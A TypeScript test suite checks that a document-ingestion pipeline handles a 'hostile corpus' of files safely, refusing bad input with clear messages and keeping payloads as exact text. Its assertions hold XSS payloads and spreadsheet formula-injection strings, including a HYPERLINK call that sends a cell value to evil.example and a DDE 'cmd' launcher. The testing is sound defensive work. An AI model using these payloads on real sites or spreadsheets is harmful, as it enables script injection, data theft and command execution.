// The hostile corpus (test/support/hostileCorpus.ts) through the pipeline: every file is either
// published without losing a character or refused with a message naming it, its line and the
// reason; nothing crashes, nothing is published twice, nothing is written outside the output
// folder, and payloads stay exact text in the pipeline's own JSON and CSV.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { spawnSync } from 'node:child_process';
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import { rawToClean } from '../pipeline/rawToClean.ts';
import { bytesToText } from '../pipeline/bytesToText.ts';
import { undoAll } from '../pipeline/textEdits.ts';
import { InputError } from '../pipeline/inputError.ts';
import { INVISIBLE } from '../pipeline/removeInvisible.ts';
import type { Document } from '../pipeline/generated/model.ts';
import { HOSTILE_DIR, hostileCorpus, type HostileFile } from './support/hostileCorpus.ts';
import { buildSeeds } from './support/build.ts';
import { cleanConfig } from './support/seeds.ts';

const corpus = hostileCorpus();
const INVISIBLE_PATTERN = new RegExp(INVISIBLE.source, 'u');
const tally = {
  published: 0,
  refusedWithMessage: 0,
  duplicatesRefused: 0,
  crashesWithoutMessage: 0,
  charactersLost: 0,
};

const runCli = (cwd: string, ...args: string[]) =>
  spawnSync(process.execPath, [join(cwd, 'pipeline', 'cli.ts'), ...args], {
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
const STACK_LINE = /^\s+at .+[:(]/mu;
const SAFE_OUTPUT_PATH =
  /^(?:text\/[a-z0-9][a-z0-9-]*\.txt|documents\/[a-z0-9][a-z0-9-]*\.json|[a-z_]+\.csv|ingest\.json|\.manifest\.json)$/u;

/** Characters of `expected` that `actual` does not reproduce (0 when equal). */
function charactersLost(expected: string, actual: string): number {
  if (expected === actual) return 0;
  let prefix = 0;
  while (prefix < expected.length && expected[prefix] === actual[prefix]) prefix++;
  let suffix = 0;
  while (
    suffix < expected.length - prefix &&
    suffix < actual.length - prefix &&
    expected.at(-1 - suffix) === actual.at(-1 - suffix)
  ) {
    suffix++;
  }
  return Math.max(1, expected.length - prefix - suffix);
}

function listFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(dir, join(entry.parentPath, entry.name)).split('\\').join('/'))
    .sort();
}

afterAll(() => {
  console.log(
    [
      `hostile corpus: ${corpus.length} files (${corpus.filter((file) => !file.large).length} committed, ` +
        `${corpus.filter((file) => file.large).length} generated at test time)`,
      `  published: ${tally.published}`,
      `  refused with a message naming the file: ${tally.refusedWithMessage}`,
      `  duplicates refused naming both files: ${tally.duplicatesRefused}`,
      `  crashes without a message: ${tally.crashesWithoutMessage}`,
      `  characters lost on readable input: ${tally.charactersLost}`,
    ].join('\n'),
  );
});

describe('the hostile corpus', () => {
  it('holds at least 40 files, and the committed ones are exactly what the generator writes', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(40);
    const committed = corpus.filter((file) => !file.large);
    expect(committed.length).toBeGreaterThanOrEqual(40);
    expect(
      readdirSync(HOSTILE_DIR)
        .filter((name) => name !== 'README.md')
        .sort(),
    ).toEqual(committed.map((file) => file.name).sort());
    for (const file of committed) {
      expect(new Uint8Array(readFileSync(join(HOSTILE_DIR, file.name))), file.name).toEqual(file.bytes);
    }
    expect(new Set(corpus.map((file) => file.name)).size).toBe(corpus.length);
  });

  describe.each(corpus.map((file) => [file.name, file] as const))('%s', (name, file: HostileFile) => {
    const path = `hostile/${name}`;

    if (file.expect.kind === 'refuse') {
      const { reason, line } = file.expect;
      it(`is refused with its name${line ? ', the line' : ''} and the reason: ${file.about}`, () => {
        let result;
        try {
          result = buildSeeds([{ path, bytes: file.bytes }]);
        } catch (error) {
          tally.crashesWithoutMessage++;
          throw error;
        }
        expect(result.documents).toEqual([]);
        expect(result.failures).toHaveLength(1);
        const [failure] = result.failures;
        if (failure!.reason.startsWith('internal error')) tally.crashesWithoutMessage++;
        expect(failure).toBeInstanceOf(InputError);
        expect(failure!.file).toBe(path);
        expect(failure!.reason).toMatch(reason);
        if (line !== undefined) expect(failure!.line).toBe(line);
        const named = `${path}${failure!.line === undefined ? '' : `:${failure!.line}`}: `;
        expect(failure!.message.startsWith(named), failure!.message).toBe(true);
        expect(failure!.hint).not.toBe('');
        tally.refusedWithMessage++;
      });
      return;
    }

    it(`loses no character: ${file.about}`, () => {
      const raw = bytesToText(file.bytes, path).text;
      let document;
      try {
        document = rawToClean(file.bytes, path, cleanConfig);
      } catch (error) {
        if (!(error instanceof InputError)) tally.crashesWithoutMessage++;
        throw error;
      }
      const lost = charactersLost(raw, undoAll(document.history.text, document.history.stages));
      tally.charactersLost += lost;
      expect(lost).toBe(0);
      expect(document.history.text).not.toMatch(INVISIBLE_PATTERN);
    });

    if (file.expect.kind === 'publish') {
      const expected = file.expect.id;
      it('is published under a safe id, its record valid', () => {
        const result = buildSeeds([{ path, bytes: file.bytes }]);
        expect(result.failures.map((failure) => failure.message)).toEqual([]);
        expect(result.documents).toHaveLength(1);
        const { id } = result.documents[0]!;
        expect(id).toMatch(/^[a-z0-9][a-z0-9-]*$/u);
        if (typeof expected === 'string') expect(id).toBe(expected);
        else expect(id).toMatch(expected);
        for (const output of result.files.keys()) expect(output).toMatch(SAFE_OUTPUT_PATH);
        tally.published++;
      });
    }
  });
});

describe('the pipeline CLI over the whole hostile folder with --keep-going', () => {
  let work: string;
  let result: ReturnType<typeof runCli>;
  let out: string;
  const documentOf = (id: string): Document =>
    JSON.parse(readFileSync(join(out, 'documents', `${id}.json`), 'utf8'));
  const table = (name: string): Record<string, string>[] =>
    parse(readFileSync(join(out, `${name}.csv`), 'utf8'), { columns: true, bom: false });
  const idOf = (name: string) => {
    const expected = corpus.find((file) => file.name === name)!.expect;
    if (expected.kind === 'refuse' || typeof expected.id !== 'string')
      throw new Error(`${name} has no fixed id`);
    return expected.id;
  };

  beforeAll(() => {
    work = mkdtempSync(join(tmpdir(), 'pipeline-hostile-'));
    const seeds = join(work, 'seeds');
    cpSync(HOSTILE_DIR, seeds, { recursive: true });
    for (const file of corpus.filter((candidate) => candidate.large))
      writeFileSync(join(seeds, file.name), file.bytes);
    out = join(work, 'out');
    result = runCli(process.cwd(), '--seeds', seeds, '--out', out, '--keep-going');
  }, 120_000);

  it('exits 1, says what it built, and prints messages, never a stack trace', () => {
    if (STACK_LINE.test(result.stderr) || result.status === null || result.status > 1)
      tally.crashesWithoutMessage++;
    expect(result.stderr).not.toMatch(STACK_LINE);
    expect(result.status, result.stderr).toBe(1);
    const refused = corpus.filter((file) => file.expect.kind !== 'publish').length;
    expect(result.stdout).toContain(
      `${corpus.length - refused} document(s) built, ${refused} failed → ${out}`,
    );
  });

  it('names every refused file with its line and reason, on stderr and in ingest.json', () => {
    const ingest = JSON.parse(readFileSync(join(out, 'ingest.json'), 'utf8'));
    const failures = new Map<string, { line: number | null; reason: string }>(
      ingest.failures.map((failure: { file: string; line: number | null; reason: string }) => [
        relative(join(work, 'seeds'), failure.file),
        failure,
      ]),
    );
    for (const file of corpus.filter((candidate) => candidate.expect.kind !== 'publish')) {
      const failure = failures.get(file.name);
      expect(failure, file.name).toBeDefined();
      if (file.expect.kind === 'refuse') {
        expect(failure!.reason).toMatch(file.expect.reason);
        if (file.expect.line !== undefined) expect(failure!.line).toBe(file.expect.line);
      }
      const named = `error: ${join(work, 'seeds', file.name)}${failure!.line === null ? '' : `:${failure!.line}`}: `;
      expect(result.stderr, file.name).toContain(named);
    }
    expect(failures.size).toBe(corpus.filter((file) => file.expect.kind !== 'publish').length);
    expect([...failures.values()].filter((failure) => failure.reason.startsWith('internal error'))).toEqual(
      [],
    );
  });

  it('publishes the rest, each once, and writes only safe paths inside the output folder', () => {
    const published = corpus.filter((file) => file.expect.kind === 'publish');
    const texts = readdirSync(join(out, 'text'));
    expect(texts).toHaveLength(published.length);
    expect(
      table('documents')
        .map((row) => row.id)
        .sort(),
    ).toEqual(texts.map((name) => name.replace(/\.txt$/u, '')).sort());
    for (const path of listFiles(out)) expect(path).toMatch(SAFE_OUTPUT_PATH);
    expect(readdirSync(work).sort()).toEqual(['out', 'seeds']);
  });

  it('reports the duplicate naming both files and publishes the document once', () => {
    const id = idOf('duplicate-a.txt');
    tally.duplicatesRefused += corpus.filter((file) => file.expect.kind === 'duplicate').length;
    expect(result.stderr).toContain(
      `${join(work, 'seeds', 'duplicate-b.txt')}: same document id ${id} as ${join(work, 'seeds', 'duplicate-a.txt')}`,
    );
    expect(table('documents').filter((row) => row.id === id)).toHaveLength(1);
    expect(documentOf(id).source.file).toBe(join(work, 'seeds', 'duplicate-a.txt'));
  });

  it('keeps markup, MDX and Markdown payloads as exact text in the clean text and the JSON', () => {
    const html = documentOf(idOf('html-script.txt'));
    const htmlText = readFileSync(join(out, 'text', `${html.id}.txt`), 'utf8');
    for (const payload of [
      '<script>window.__pwned = 1; alert(1)</script>',
      '<img src=x onerror="window.__pwned=1">',
      '<a href="javascript:window.__pwned=1">javascript:alert(window.__pwned=1)</a>',
      '<svg onload="alert(window.__pwned=1)">',
      '&lt;script&gt;alert(window.__pwned=1)&lt;/script&gt; &#x3C;b&#x3E; &amp;',
    ]) {
      expect(htmlText).toContain(payload);
      expect(html.provisions.map((provision) => provision.text).join('')).toContain(payload);
    }
    const mdx = readFileSync(join(out, 'text', `${idOf('mdx-payloads.txt')}.txt`), 'utf8');
    for (const payload of [
      "import fs from 'node:fs'",
      '{process.exit(1)}',
      '<Component />',
      '{/* 注释 */}',
    ]) {
      expect(mdx).toContain(payload);
    }
    const markdown = readFileSync(join(out, 'text', `${idOf('markdown.txt')}.txt`), 'utf8');
    expect(markdown).toContain('[点击这里](javascript:alert(window.__pwned=1))');
    expect(markdown).toContain('<details open ontoggle="alert(window.__pwned=1)">');
  });

  it('leaves cells that start with a formula character exact in its own CSV and JSON', () => {
    const id = idOf('formulas.txt');
    const tasks = table('tasks').filter((row) => row.document_id === id);
    const texts = tasks.map((row) => row.text);
    expect(texts).toContain('=HYPERLINK("http://evil.example/?x="&A1,"点击")推进合作。');
    expect(texts).toContain("+cmd|' /C calc'!A0加强协作。");
    expect(texts).toContain('-1+1深化交流。');
    expect(texts).toContain("@SUM(1+1)*cmd|' /C calc'!A0完善机制。");
    expect(documentOf(id).tasks.map((task) => task.text)).toEqual(texts);
    const printed = table('task_agencies')
      .filter((row) => row.task_id!.startsWith(`${id}-`))
      .map((row) => row.name_as_printed);
    expect(printed).toEqual(expect.arrayContaining(['=1+1', '@SUM(1+1)']));
    const titled = table('documents').find((row) => row.title!.startsWith('=1+1'));
    expect(titled?.title).toBe('=1+1广东省人民政府办公厅关于推进合作的通知');
    expect(documentOf(titled!.id!).title).toBe(titled!.title);
  });

  it('removes invisible and control characters from the text, logging each and counting them', () => {
    const ingest = JSON.parse(readFileSync(join(out, 'ingest.json'), 'utf8'));
    for (const name of ['zero-width.txt', 'bidi-controls.txt', 'noncharacters.txt', 'utf8-double-bom.txt']) {
      const file = corpus.find((candidate) => candidate.name === name)!;
      const id = idOf(name);
      const hidden = [...bytesToText(file.bytes, name).text.matchAll(INVISIBLE)].length;
      expect(hidden, name).toBeGreaterThan(0);
      const text = readFileSync(join(out, 'text', `${id}.txt`), 'utf8');
      expect(text).not.toMatch(INVISIBLE_PATTERN);
      const removed = table('repairs').filter((row) => row.document_id === id && row.stage === 'invisible');
      expect(removed.reduce((total, row) => total + [...row.original!].length, 0)).toBe(hidden);
      expect(removed.every((row) => row.replacement === '' && /^U\+/u.test(row.note!.split(': ')[1]!))).toBe(
        true,
      );
      const entry = ingest.documents.find((document: { id: string }) => document.id === id);
      expect(entry.invisible_characters_removed).toBe(hidden);
    }
    // The reversed text U+202E displayed is stored in its logical order: what is read is what is stored.
    expect(documentOf(idOf('bidi-controls.txt')).title).toBe(
      '广东省人民政府办公厅关于推进知通双向控制符处理的通知',
    );
  });

  it('counts every task of 10,000 agencies and 20,000 items', () => {
    const agencies = documentOf(idOf('agencies-10000.txt'));
    const printed = new Set(
      agencies.tasks.flatMap((task) => task.agencies.map((agency) => agency.name_as_printed)),
    );
    expect(printed.size).toBe(10_001);
    expect(documentOf(idOf('many-lines.txt')).tasks).toHaveLength(20_000);
  });
});

describe('fatal errors of the CLI are messages, not stack traces', () => {
  const cases: [string, (work: string) => string[], RegExp][] = [
    [
      'a seeds folder that does not exist',
      (work) => ['--seeds', join(work, 'missing'), '--out', join(work, 'out')],
      /^error: ENOENT: no such file or directory, scandir '.*missing'$/mu,
    ],
    [
      'an unknown option',
      () => ['--seed', 'x'],
      /^error: Unknown option '--seed'.*\nusage: npm run pipeline/mu,
    ],
    [
      'a malformed overrides file',
      (work) => {
        mkdirSync(join(work, 'bad-overrides'));
        writeFileSync(join(work, 'bad-overrides', 'overrides.json'), '{"overrides": [');
        cpSync(join(HOSTILE_DIR, 'gbk.txt'), join(work, 'bad-overrides', 'gbk.txt'));
        return ['--seeds', join(work, 'bad-overrides'), '--out', join(work, 'out')];
      },
      /^error: .*bad-overrides\/overrides\.json: not valid JSON \(/mu,
    ],
  ];
  it.each(cases)('%s', (_name, args, message) => {
    const work = mkdtempSync(join(tmpdir(), 'pipeline-fatal-'));
    const result = runCli(process.cwd(), ...args(work));
    if (STACK_LINE.test(result.stderr)) tally.crashesWithoutMessage++;
    expect(result.stderr).not.toMatch(STACK_LINE);
    expect(result.stderr).toMatch(message);
    expect(result.status).toBe(2);
    expect(readdirSync(work).filter((name) => name.includes('out'))).toEqual([]);
  });

  it('runs from a folder whose path has spaces and Chinese in it', () => {
    const work = mkdtempSync(join(tmpdir(), 'pipeline path 路径 '));
    cpSync('pipeline', join(work, 'pipeline'), { recursive: true });
    cpSync('schemas', join(work, 'schemas'), { recursive: true });
    cpSync('package.json', join(work, 'package.json'));
    symlinkSync(join(process.cwd(), 'node_modules'), join(work, 'node_modules'));
    const result = runCli(work, '--seeds', HOSTILE_DIR, '--out', join(work, 'out'), '--keep-going');
    expect(result.stdout).toMatch(/document\(s\) built/);
    expect(readdirSync(join(work, 'out', 'documents')).length).toBeGreaterThan(0);
  });
});
